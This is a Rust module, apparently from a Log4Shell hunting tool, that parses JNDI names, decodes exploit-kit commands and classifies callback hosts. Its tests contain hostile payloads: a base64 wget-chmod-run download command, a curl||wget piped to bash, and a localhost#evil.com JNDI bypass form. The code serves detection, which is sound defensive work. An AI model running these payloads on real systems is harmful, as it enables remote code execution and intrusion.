//! Indicators from a JNDI name: the callback target, exploit-kit commands and the hosts inside
//! them, the callback-host class, and whether the attempt could work on a given Log4j release.

use quell_model::hunt::{CallbackClass, Command, CouldWork, Target, Workable};

/// Schemes a JDK resolves through JNDI URL context factories (lower case only: the factory
/// package is looked up by the literal scheme, so `LDAP://` fails).
const JNDI_SCHEMES: &[&str] = &["ldap", "ldaps", "rmi", "dns", "iiop", "iiopname", "corbaname", "nis", "nds", "corba"];

/// Default port per scheme.
fn default_port(scheme: &str) -> Option<u16> {
    Some(match scheme {
        "ldap" => 389,
        "ldaps" => 636,
        "rmi" => 1099,
        "dns" => 53,
        "iiop" | "iiopname" | "corba" | "corbaname" => 900,
        "http" => 80,
        "https" => 443,
        _ => return None,
    })
}

/// Parses a JNDI name as a URL: scheme, host (both sides of `127.0.0.1#evil.com`), port, path.
pub fn parse_target(name: &str) -> Option<Target> {
    let colon = name.find(':')?;
    let scheme_raw = &name[..colon];
    if scheme_raw.is_empty() || !scheme_raw.bytes().all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b)) {
        return None;
    }
    let scheme = scheme_raw.to_ascii_lowercase();
    let rest = &name[colon + 1..];
    let rest = rest.strip_prefix("//").or_else(|| rest.strip_prefix('/')).unwrap_or(rest);
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    let (authority, alt) = match authority.split_once('#') {
        Some((a, b)) => (a, Some(b)),
        None => (authority, None),
    };
    let authority = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let (host, mut port) = split_host_port(authority);
    let alt = alt.map(split_host_port);
    if port.is_none() {
        port = alt.and_then(|a| a.1);
    }
    let alt_host = alt.map(|a| a.0.to_owned()).filter(|a| !a.is_empty());
    Some(Target {
        port: port.or_else(|| default_port(&scheme)),
        scheme,
        host: host.to_owned(),
        path: path.to_owned(),
        alt_host,
    })
}

fn split_host_port(a: &str) -> (&str, Option<u16>) {
    if let Some(r) = a.strip_prefix('[')
        && let Some(end) = r.find(']')
    {
        let port = r[end + 1..].strip_prefix(':').and_then(|p| p.parse().ok());
        return (&r[..end], port);
    }
    match a.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') => match p.parse() {
            Ok(port) => (h, Some(port)),
            Err(_) => (a, None),
        },
        _ => (a, None),
    }
}

/// Lenient base64: standard or URL-safe alphabet, padding optional, percent-encoding and stray
/// characters ignored. `None` when nothing decodes.
pub fn lenient_base64(s: &str) -> Option<Vec<u8>> {
    let unpercent = percent_decode_bytes(s);
    let mut bits = 0u32;
    let mut nbits = 0;
    let mut out = Vec::new();
    for &c in &unpercent {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            _ => continue,
        };
        bits = (bits << 6) | u32::from(v);
        nbits += 6;
        if nbits >= 8 {
            nbits -= 8;
            out.push((bits >> nbits) as u8);
            bits &= (1 << nbits) - 1;
        }
    }
    (!out.is_empty()).then_some(out)
}

/// The command of a Text4Shell script (`${script:javascript:...exec('curl http://HOST/x')}`):
/// one [`Command`] of kind `script` with the hosts (URLs, `ip:port`, curl/wget targets) in it.
pub fn script_commands(code: &str) -> Vec<Command> {
    vec![Command { kind: "script".into(), command: code.to_owned(), hosts: command_hosts(code) }]
}

/// Decodes the commands of exploit-kit paths (JNDIExploit and its forks):
/// `/<Kit>/Command/Base64/<b64>`, `/<Kit>/Command/<cmd>`, `/<Kit>/ReverseShell/<ip>/<port>`,
/// `/<Kit>/Dnslog/<domain>`.
pub fn exploit_commands(path: &str) -> Vec<Command> {
    let segs: Vec<&str> = path.split('/').collect();
    let mut out = Vec::new();
    for (i, seg) in segs.iter().enumerate() {
        let lower = seg.to_ascii_lowercase();
        let rest_after = |k: usize| segs[k..].join("/");
        match lower.as_str() {
            "command" if i + 1 < segs.len() => {
                let next = segs[i + 1].to_ascii_lowercase();
                if next == "base64" {
                    let b64 = rest_after(i + 2);
                    let b64 = b64.trim_start_matches('/');
                    if let Some(command) = lenient_base64(b64).and_then(|b| printable(&b)) {
                        out.push(Command { kind: "base64".into(), hosts: command_hosts(&command), command });
                    }
                } else {
                    let command = percent_decode(&rest_after(i + 1));
                    out.push(Command { kind: "command".into(), hosts: command_hosts(&command), command });
                }
                break;
            }
            "reverseshell" if i + 1 < segs.len() => {
                let ip = segs[i + 1];
                let port = segs.get(i + 2).copied().unwrap_or("");
                let hostport = if port.is_empty() { ip.to_owned() } else { format!("{ip}:{port}") };
                out.push(Command { kind: "reverse_shell".into(), command: hostport.clone(), hosts: vec![hostport] });
                break;
            }
            "dnslog" if i + 1 < segs.len() => {
                let domain = segs[i + 1].to_owned();
                out.push(Command { kind: "dnslog".into(), command: domain.clone(), hosts: vec![domain] });
                break;
            }
            _ => {}
        }
    }
    out
}

/// The bytes as text when they read as a command: valid UTF-8, at least 90% printable.
fn printable(b: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(b).ok()?;
    let total = s.chars().count();
    let good = s.chars().filter(|c| !c.is_control() || *c == '\n' || *c == '\t').count();
    (total > 0 && good * 10 >= total * 9).then(|| s.to_owned())
}

fn percent_decode(s: &str) -> String {
    String::from_utf8_lossy(&percent_decode_bytes(s)).into_owned()
}

/// `s` with every `%HH` that has a character after it decoded (a `%HH` at the very end, and any
/// other `%`, stays as it is).
fn percent_decode_bytes(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    if memchr::memchr(b'%', b).is_none() {
        return b.to_vec();
    }
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && let (Some(h), Some(l)) = ((b[i + 1] as char).to_digit(16), (b[i + 2] as char).to_digit(16))
        {
            out.push((h * 16 + l) as u8);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

/// Hosts inside a shell command: URLs, `ip[:port]` anywhere, and curl/wget targets.
pub fn command_hosts(cmd: &str) -> Vec<String> {
    let mut hosts: Vec<String> = Vec::new();
    let mut push = |h: String| {
        if !h.is_empty() && !hosts.contains(&h) {
            hosts.push(h);
        }
    };
    let tokens: Vec<&str> =
        cmd.split(|c: char| c.is_whitespace() || ";|&()'\"`<>".contains(c)).filter(|t| !t.is_empty()).collect();
    for (i, tok) in tokens.iter().enumerate() {
        if let Some(idx) = tok.find("://") {
            let after = &tok[idx + 3..];
            let host = after.split(['/', '?', '#']).next().unwrap_or("");
            push(host.to_owned());
            continue;
        }
        for ip in find_ipv4(tok) {
            push(ip);
        }
        let prev = if i > 0 { tokens[i - 1] } else { "" };
        let is_fetch =
            ["curl", "wget"].iter().any(|c| prev.ends_with(c)) || (i >= 2 && tokens[i - 2].ends_with("wget"));
        if is_fetch && !tok.starts_with('-') && tok.contains('.') && find_ipv4(tok).is_empty() {
            push(tok.split('/').next().unwrap_or("").to_owned());
        }
    }
    hosts
}

/// IPv4 addresses (with `:port` when present) inside a token.
fn find_ipv4(s: &str) -> Vec<String> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i].is_ascii_digit() && (i == 0 || !(b[i - 1].is_ascii_digit() || b[i - 1] == b'.')) {
            let mut j = i;
            while j < b.len() && (b[j].is_ascii_digit() || b[j] == b'.') {
                j += 1;
            }
            let cand = s[i..j].trim_end_matches('.');
            if cand.parse::<std::net::Ipv4Addr>().is_ok() {
                let mut end = i + cand.len();
                if b.get(end) == Some(&b':') {
                    let mut k = end + 1;
                    while k < b.len() && b[k].is_ascii_digit() {
                        k += 1;
                    }
                    if k > end + 1 {
                        end = k;
                    }
                }
                out.push(s[i..end].to_owned());
            }
            i = j;
        } else {
            i += 1;
        }
    }
    out
}

/// Classifies a callback host: a known probing service
/// ([`quell_model::indicators::probe_service`], the list the server marks `known_scanner` by),
/// else a name starting `oast.` (a self-hosted interactsh server: OAST here, but not a known
/// scanner on the server, where anyone could name a host so to hide from its lists), loopback or
/// private, or unknown.
pub fn classify_host(host: &str) -> CallbackClass {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    if let Some(class) = quell_model::indicators::probe_service(&h) {
        return class;
    }
    if h.starts_with("oast.") {
        return CallbackClass::Oast;
    }
    if is_local(&h) {
        return CallbackClass::Local;
    }
    CallbackClass::Unknown
}

fn is_local(h: &str) -> bool {
    if h == "localhost" || h.ends_with(".localhost") {
        return true;
    }
    match h.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v4)) => {
            v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
        }
        Ok(std::net::IpAddr::V6(v6)) => v6.is_loopback() || v6.is_unspecified(),
        Err(_) => false,
    }
}

/// The strongest class over several hosts: scanner, then OAST, then unknown, then local.
pub fn classify_hosts<'a>(hosts: impl Iterator<Item = &'a str>) -> CallbackClass {
    let mut best = CallbackClass::Local;
    let mut any = false;
    for h in hosts {
        any = true;
        let c = classify_host(h);
        let rank = |c: CallbackClass| match c {
            CallbackClass::Scanner => 3,
            CallbackClass::Oast => 2,
            CallbackClass::Unknown => 1,
            CallbackClass::Local => 0,
        };
        if rank(c) > rank(best) {
            best = c;
        }
    }
    if any { best } else { CallbackClass::Unknown }
}

/// Whether an attempt could have worked, per release line.
///
/// - 2.0-beta9 … 2.14.1: message lookups run and JNDI follows any URL scheme the JDK has a
///   factory for (lower-case scheme), if the evaluation completes.
/// - 2.15.0: message lookups are off by default; lookups reached through context data
///   (`${ctx:...}` in a pattern, CVE-2021-45046) still run, and JNDI allows only ldap/ldaps to
///   local hosts — the `127.0.0.1#evil.com` form gets past that check on some systems.
/// - 2.16.0: JNDI is off by default; the recursion denial of service (CVE-2021-45105) remains
///   through context lookups.
/// - 2.17.0 and later: none of the above.
pub fn could_work(targets: &[Target], functional: bool, recursion: bool) -> CouldWork {
    let jndi_ok =
        functional && targets.iter().any(|t| JNDI_SCHEMES.contains(&t.scheme.as_str()) && !t.scheme.is_empty());
    let v2_15 = functional
        && targets.iter().any(|t| {
            (t.scheme == "ldap" || t.scheme == "ldaps")
                && is_local(&t.host.to_ascii_lowercase())
                && t.alt_host.as_deref().is_some_and(|a| !is_local(&a.to_ascii_lowercase()))
        });
    CouldWork {
        log4j_2_14_1: if jndi_ok {
            Workable::Yes
        } else if recursion {
            Workable::DenialOfService
        } else {
            Workable::No
        },
        log4j_2_15_0: if v2_15 {
            Workable::Possible
        } else if recursion {
            Workable::DenialOfService
        } else {
            Workable::No
        },
        log4j_2_16_0: if recursion { Workable::DenialOfService } else { Workable::No },
        log4j_2_17_0: Workable::No,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn targets() {
        let t = parse_target("ldap://127.0.0.1#evil.com:1389/z").expect("target");
        assert_eq!((t.host.as_str(), t.alt_host.as_deref(), t.port), ("127.0.0.1", Some("evil.com"), Some(1389)));
        let t = parse_target("ldap:/one.example/a").expect("target");
        assert_eq!((t.host.as_str(), t.port, t.path.as_str()), ("one.example", Some(389), "/a"));
        let t = parse_target("ldap://[::1]:1389/a").expect("target");
        assert_eq!((t.host.as_str(), t.port), ("::1", Some(1389)));
    }

    #[test]
    fn commands() {
        let c = exploit_commands(
            "/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9saC5zaA==",
        );
        assert_eq!(c.len(), 1);
        assert!(c[0].command.starts_with("wget http://62.210.130.250/"));
        assert_eq!(c[0].hosts, ["62.210.130.250"]);
        let hosts = command_hosts("(curl -s 195.54.160.149:5874/46.101.87.151:443||wget -q -O- x)|bash");
        assert_eq!(hosts, ["195.54.160.149:5874", "46.101.87.151:443"]);
    }

    #[test]
    fn classes() {
        assert_eq!(classify_host("x.c6x.interact.sh"), CallbackClass::Oast);
        assert_eq!(classify_host("x.w.nessus.org"), CallbackClass::Scanner);
        assert_eq!(classify_host("198.51.100.7"), CallbackClass::Unknown);
    }
}
